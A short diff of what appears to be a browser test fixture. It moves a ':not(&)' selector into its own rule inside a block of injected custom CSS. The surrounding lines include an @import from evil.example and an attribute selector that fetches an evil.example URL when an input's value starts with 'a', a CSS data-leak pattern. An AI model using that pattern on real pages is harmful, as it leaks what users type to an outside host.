@@ -9,7 +9,8 @@ const browser = openBrowser()
 const customCSS = `
 @import url(//evil.example/x.css);
 :root { --accent-ink: rgb(1, 2, 3); letter-spacing: 2px; }
-a, button, input, :not(&) { text-transform: uppercase; }
+a, button, input { text-transform: uppercase; }
+:not(&) { text-transform: uppercase; }
 input[value^='a'] { background: url(//evil.example/a); }
 * { position: fixed; }
 @keyframes sway { to { opacity: 0.99; } }
